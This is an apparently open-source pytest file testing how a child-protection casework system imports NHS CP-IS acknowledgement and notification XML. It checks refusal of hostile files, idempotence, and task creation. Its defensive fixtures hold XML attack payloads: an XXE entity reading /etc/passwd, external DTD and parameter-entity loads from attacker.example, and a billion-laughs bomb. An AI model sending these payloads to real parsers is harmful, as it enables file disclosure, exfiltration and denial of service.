"""Importing acknowledgements and notifications: hostile and malformed files are refused with a
clear error and change nothing; imports are idempotent; each notification becomes exactly one task
for the allocated worker and one chronology entry."""

from __future__ import annotations

import pytest

from opencsc.audit.models import AuditEvent
from opencsc.casework.models import ChronologyEntry, Task
from opencsc.core.uploads import FileRefused
from opencsc.cpis import services
from opencsc.cpis.models import InboundMessage, Notification, UploadRecord
from opencsc.cpis.parsing import CpisFileError
from opencsc.cpis.tests.conftest import (
    BILLION_LAUGHS,
    HL7,
    access_xml,
    ack_xml,
    allocate,
    care_period,
    cp_plan,
    days_ago,
    inactive_xml,
    message_id,
    unborn_with_mother,
    verified_child,
)
from opencsc.people.identifiers import normalise_nhs_number


@pytest.fixture
def uploaded(db, system_actor, east_team, social_worker):
    """Two children on plans (allocated to the social worker) and an unborn child's plan, uploaded."""
    first, second = verified_child(), verified_child()
    for child in (first, second):
        allocate(child, east_team, social_worker)
    cp_plan(first, days_ago(100))
    care_period(second, days_ago(50))
    mother, unborn, _ = unborn_with_mother()
    allocate(unborn, east_team, social_worker)
    upload = services.upload_build(actor_user=None, actor=system_actor).upload
    return {"upload": upload, "first": first, "second": second, "mother": mother, "unborn": unborn}


def _state() -> tuple:
    return (
        InboundMessage.objects.count(),
        Notification.objects.count(),
        Task.objects.count(),
        ChronologyEntry.objects.count(),
        tuple(UploadRecord.objects.order_by("pk").values_list("response_code", flat=True)),
    )


def _import(data: bytes, actor):
    return services.message_import(actor_user=None, actor=actor, data=data, file_name="from-mesh.xml")


def _numbers(uploaded) -> dict[int, str]:
    return {r.number: r.nhs_number for r in uploaded["upload"].records.all()}


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<REPC_MT000003GB01 xmlns="urn:hl7-org:v3"><id extension="&xxe;"/></REPC_MT000003GB01>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE REPC_MT000003GB01 SYSTEM "http://attacker.example/evil.dtd">
<REPC_MT000003GB01 xmlns="urn:hl7-org:v3"><id extension="1"/></REPC_MT000003GB01>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<REPC_MT000003GB01 xmlns="urn:hl7-org:v3"/>"""


def _hostile(uploaded) -> dict[str, tuple[bytes, str]]:
    numbers = _numbers(uploaded)
    good = [(n, nhs, "CPR06") for n, nhs in numbers.items()]
    seq, qty = uploaded["upload"].sequence, len(numbers)
    return {
        "billion laughs": (BILLION_LAUGHS, "document type"),
        "xxe": (XXE, "document type"),
        "external dtd": (EXTERNAL_DTD, "document type"),
        "parameter entity": (PARAMETER_ENTITY, "document type"),
        "malformed": (ack_xml(seq, qty, good)[:-30], "not well-formed"),
        "not xml": (b"\x00\x01binary junk", "not"),
        "empty": (b"   ", "empty"),
        "wrong root": (b'<Invoice xmlns="urn:hl7-org:v3"/>', "root element is <Invoice>"),
        "wrong namespace": (ack_xml(seq, qty, good).replace(HL7.encode(), b"urn:example"), "namespace"),
        "our own upload": (b'<REPC_MT000002GB01 xmlns="urn:hl7-org:v3"/>', "CP-IS Local Authority Upload"),
        "nhs query": (b'<QUPC_MT000006GB01 xmlns="urn:hl7-org:v3"/>', "CP-IS NHS Query"),
        "unknown upload": (ack_xml(seq + 50, qty, good), "No CP-IS upload"),
        "count mismatch": (ack_xml(seq, qty + 1, good), "had"),
        "unknown code": (ack_xml(seq, qty, [(1, numbers[1], "CPR99")]), "not a CP-IS code"),
        "bad nhs number": (ack_xml(seq, qty, [(1, "9990000019", "CPR06")]), "not a valid NHS number"),
        "number not sent": (ack_xml(seq, qty, [(1, numbers[2], "CPR06")]), "not the one"),
        # One good failure record, then a bad one: the good one must not be applied either.
        "partly bad": (ack_xml(seq, qty, [(1, numbers[1], "CPR01"), (99, numbers[2], "CPR06")]), "no record 99"),
        "repeated record": (ack_xml(seq, qty, [(1, numbers[1], "CPR06"), (1, numbers[1], "CPR06")]), "repeats"),
        "file-level reject": (ack_xml(-1, -1, []).replace(b'value="-1"', b'value="0"'), "rejected the whole"),
        "access bad time": (access_xml(numbers[1], when="2025-06-02T03:15"), "not an HL7 timestamp"),
        "access no zone": (access_xml(numbers[1], when="20250602031500"), "no time zone"),
        "access bad id": (access_xml(numbers[1], msg_id="not-a-uuid"), "not a UUID"),
        "inactive two subjects": (
            inactive_xml(numbers[1])
            .replace(b"</subject>", b"</subject><subject/>", 1)
            .replace(b"<subject/>", b'<subject><patient><id extension="9990000018"/></patient></subject>'),
            "expected exactly one",
        ),
    }


@pytest.mark.django_db
def test_hostile_and_malformed_files_are_refused_with_no_change(uploaded, system_actor, settings):
    settings.OPENCSC_CPIS_MAX_FILE_BYTES = 64 * 1024
    corpus = _hostile(uploaded)
    corpus["too big"] = (b"<a>" + b" " * (65 * 1024) + b"</a>", "more than the")
    before = _state()
    for name, (data, expected) in corpus.items():
        with pytest.raises(FileRefused) as caught:  # CpisFileError, or FileTooLarge for "too big"
            _import(data, system_actor)
        assert expected.lower() in str(caught.value).lower(), (name, str(caught.value))
        assert _state() == before, f"{name} changed something"
    refusals = AuditEvent.objects.filter(action="cpis.import_refused")
    assert refusals.count() == len(corpus)
    assert all(not any(ch.isdigit() for ch in e.detail["reason"]) for e in refusals)  # no NHS numbers


@pytest.mark.django_db
def test_acknowledgement_records_responses_and_failed_records_become_tasks(uploaded, system_actor, social_worker):
    numbers = _numbers(uploaded)
    ucp = uploaded["upload"].records.get(plan_type="UCP")
    codes = {n: "CPR06" for n in numbers} | {ucp.number: "CPR03"}
    first = uploaded["upload"].records.get(subject=uploaded["first"])
    codes[first.number] = "CPR01"
    result = _import(
        ack_xml(uploaded["upload"].sequence, len(numbers), [(n, numbers[n], c) for n, c in codes.items()]), system_actor
    )
    assert result.message.summary["failed"] == 2 and result.message.summary["accepted"] == len(numbers) - 2
    tasks = Task.objects.filter(kind=services.TASK_NHS_NUMBER)
    # The unborn child's worker fixes the mother's number; the first child's worker fixes theirs.
    assert sorted(tasks.values_list("person_id", flat=True)) == sorted([uploaded["first"].pk, uploaded["unborn"].pk])
    assert set(tasks.values_list("assignee_id", flat=True)) == {social_worker.pk}
    assert {r.response_code for r in UploadRecord.objects.all()} == {"CPR01", "CPR03", "CPR06"}


@pytest.mark.django_db
def test_import_is_idempotent(uploaded, system_actor):
    numbers = _numbers(uploaded)
    data = ack_xml(uploaded["upload"].sequence, len(numbers), [(n, nhs, "CPR01") for n, nhs in numbers.items()])
    first = _import(data, system_actor)
    after_first = _state()
    again = _import(data, system_actor)
    assert again.duplicate and again.message == first.message
    assert _state() == after_first
    # A different acknowledgement for the same upload is refused, not applied twice.
    other = ack_xml(uploaded["upload"].sequence, len(numbers), [(n, nhs, "CPR06") for n, nhs in numbers.items()])
    with pytest.raises(CpisFileError, match="already imported"):
        _import(other, system_actor)
    assert _state() == after_first

    notice = access_xml(numbers[1])
    _import(notice, system_actor)
    after_notice = _state()
    assert _import(notice, system_actor).duplicate
    assert _state() == after_notice


@pytest.mark.django_db
def test_access_notification_creates_exactly_one_task_and_one_chronology_entry(uploaded, system_actor, social_worker):
    child = uploaded["first"]
    result = _import(access_xml(normalise_nhs_number(child.nhs_number)), system_actor)
    assert result.tasks == 1 and result.chronology_entries == 1
    task = Task.objects.get(kind=services.TASK_ACCESS)
    assert task.person == child and task.assignee == social_worker
    entry = ChronologyEntry.objects.get()
    assert entry.child == child and entry.recorded_by is None
    assert "Exampleton General Hospital Emergency Department (RZZ01)" in entry.detail
    notification = Notification.objects.get()
    assert notification.task_ids == [task.pk] and notification.chronology_ids == [entry.pk]
    assert notification.setting_name == "Exampleton General Hospital Emergency Department"
    assert AuditEvent.objects.filter(action="cpis.access_notification", subject_person_id=child.pk).count() == 1
    assert AuditEvent.objects.filter(action="casework.chronology_add", subject_person_id=child.pk).count() == 1


@pytest.mark.django_db
def test_access_to_the_mothers_record_goes_to_the_unborn_childs_worker(uploaded, system_actor, social_worker):
    _import(access_xml(normalise_nhs_number(uploaded["mother"].nhs_number)), system_actor)
    task = Task.objects.get()
    assert task.person == uploaded["unborn"] and task.assignee == social_worker
    entry = ChronologyEntry.objects.get()
    assert entry.child == uploaded["unborn"] and "mother's record" in entry.detail


@pytest.mark.django_db
def test_inactive_number_becomes_a_task_and_unknown_numbers_are_kept_unmatched(uploaded, system_actor):
    _import(inactive_xml(normalise_nhs_number(uploaded["second"].nhs_number)), system_actor)
    assert Task.objects.get().kind == services.TASK_INACTIVE
    assert not ChronologyEntry.objects.exists()
    result = _import(access_xml("9990000018", msg_id=message_id()), system_actor)
    assert result.tasks == 0 and not result.message.summary["matched"]
    assert Notification.objects.filter(child_ids=[]).count() == 1


@pytest.mark.django_db
def test_a_social_worker_cannot_import(uploaded, social_worker, system_actor):
    from django.core.exceptions import PermissionDenied

    from opencsc.audit.services import Actor

    with pytest.raises(PermissionDenied):
        services.message_import(
            actor_user=social_worker, actor=Actor.from_user(social_worker), data=inactive_xml("9990000018")
        )


@pytest.mark.django_db
def test_cpis_writes_its_task_and_chronology_entry_through_the_casework_services(
    uploaded, system_actor, social_worker, monkeypatch
):
    """The task and the entry come from casework's services (one place validates and audits them)."""
    from opencsc.casework.services import records

    called: list[str] = []
    for name in ("system_task_open", "system_chronology_entry_add"):
        real = getattr(records, name)
        monkeypatch.setattr(
            services, name, lambda *a, _real=real, _name=name, **k: called.append(_name) or _real(*a, **k)
        )
    child = uploaded["first"]
    _import(access_xml(normalise_nhs_number(child.nhs_number)), system_actor)
    assert called == ["system_task_open", "system_chronology_entry_add"]
    opened = AuditEvent.objects.get(action="casework.task_open", subject_person_id=child.pk)
    assert opened.detail["kind"] == services.TASK_ACCESS and opened.detail["assignee"] == social_worker.pk
    added = AuditEvent.objects.get(action="casework.chronology_add", subject_person_id=child.pk)
    assert added.detail["source"] == "NHS England CP-IS"
